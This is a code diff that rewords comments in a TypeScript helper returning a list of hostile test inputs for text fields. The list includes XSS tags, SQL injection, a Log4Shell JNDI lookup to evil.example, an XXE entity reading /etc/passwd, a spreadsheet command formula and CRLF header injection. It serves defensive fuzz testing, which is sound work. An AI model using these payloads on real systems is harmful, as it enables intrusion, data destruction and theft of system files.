@@ -1,7 +1,7 @@
-/** What people and programs write where words are expected. `mark` says where it went. */
+/** Hostile or unusual input for text fields; `mark` makes it traceable. */
 export function naughty(mark: string): string[] {
   return [
-    // Markup that runs.
+    // Markup that would run.
     `"><script>alert('${mark}')</script>`,
     `</title></textarea></script><script>${mark}()</script>`,
     `'"><img src=x onerror=${mark}()>`,
@@ -36,7 +36,7 @@ export function naughty(mark: string): string[] {
     `https://evil.example/${mark}`,
     `//evil.example/${mark}`,
     `/\\evil.example/${mark}`,
-    // Templates, queries, commands, formats.
+    // Templates, queries, commands and format strings.
     `{{${mark}.constructor.constructor('alert(1)')()}}`,
     `\${${mark}} #{${mark}} <%= ${mark} %> {%${mark}%}`,
     `'; DROP TABLE messages; -- ${mark}`,
@@ -50,14 +50,14 @@ export function naughty(mark: string): string[] {
     `\${jndi:ldap://evil.example/${mark}}`,
     `<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]><x>&e;${mark}</x>`,
     `=cmd|' /C calc'!A0 ${mark}`,
-    // Lines and headers.
+    // Line breaks and headers.
     `x\r\nX-Injected: ${mark}`,
     `x\nSet-Cookie: ${mark}=1`,
     `x\r\n\r\n<script>${mark}()</script>`,
     `x\u0085${mark}\u2028${mark}\u2029`,
     `event: done\ndata: {"reply":"${mark}"}\n\n`,
     `\u0000\u0001\u0002\u0007\u0008\u001b[31m${mark}\u007f`,
-    // Letters.
+    // Unicode.
     `\u202e${mark}\u202c \u2066${mark}\u2069 \u200f${mark}`,
     `\u200b\u200c\u200d\ufeff\u2060${mark}`,
     `\ud83d${mark}`,
@@ -68,7 +68,7 @@ export function naughty(mark: string): string[] {
     `İıſK ß ﬁ Ǆ ${mark}`,
     `ñÑáéíóúü¿¡ «${mark}» — “x”`,
     `歯科 зуб שיניים أسنان ฟัน ${mark}`,
-    // Sizes, for what goes through them letter by letter.
+    // Long input, for code that works letter by letter.
     `${mark} ${'a'.repeat(1200)}`,
     `${mark}${' '.repeat(1500)}x`,
     `${mark} ${'é'.repeat(600)}`,
